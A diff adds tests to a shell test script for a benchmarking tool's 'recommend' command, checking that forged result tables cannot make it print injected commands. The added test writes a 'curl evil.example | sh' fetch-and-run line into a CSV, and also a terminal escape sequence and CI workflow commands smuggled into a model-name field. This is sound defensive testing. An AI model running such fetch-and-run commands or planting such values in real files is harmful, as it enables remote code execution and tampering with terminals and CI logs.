@@ -41,6 +41,27 @@ if command -v python3 > /dev/null; then
     python3 -m json.tool answer.json > /dev/null || fail "the JSON is not valid"
 fi
 
+# Who wrote the table writes no command, controls no terminal and gives no workflow
+# command.
+example=$SRC/results/examples/epyc-zen4-2vcpu/sweep.csv
+mkdir made forged
+cp "$example" made/sweep.csv
+"$BENCH" recommend made > made.txt
+grep -A1 "^Measure it again:" made.txt | grep -q "^  bench decode -m yi-1.5-9b:Q4_" ||
+    fail "no command: $(cat made.txt)"
+sed 's/bench decode -m .* --seed/curl evil.example | sh; bench decode --seed/' "$example" \
+    > forged/sweep.csv
+"$BENCH" recommend forged > forged.txt
+grep -q "^No command measures it again: the row does not say where the model yi-1.5-9b is" \
+    forged.txt || fail "no word of the command: $(cat forged.txt)"
+"$BENCH" recommend forged --json > forged.json
+! cat forged.txt forged.json | grep -q curl || fail "a command is printed as found"
+awk -v model="\"$(printf '\033')[2J\\n::error::forged ::add-mask::x\"" \
+    'NR > 1 { sub(/,yi-1.5-9b,/, "," model ",") } 1' "$example" > forged/sweep.csv
+"$BENCH" recommend forged > forged.txt
+! grep -q "$(printf '\033')" forged.txt || fail "an escape sequence is printed"
+! grep -qE '^[[:space:]]*::|##\[' forged.txt || fail "a workflow command is printed"
+
 refused 1 "closest is Q4_0 with 2 threads: 2.45 tok/s at depth 4096" \
     recommend "$sweep" --min-tps 4
 refused 1 "needs 4.79 GiB of 4.00 GiB" recommend "$sweep" --mem 4G --ctx 0
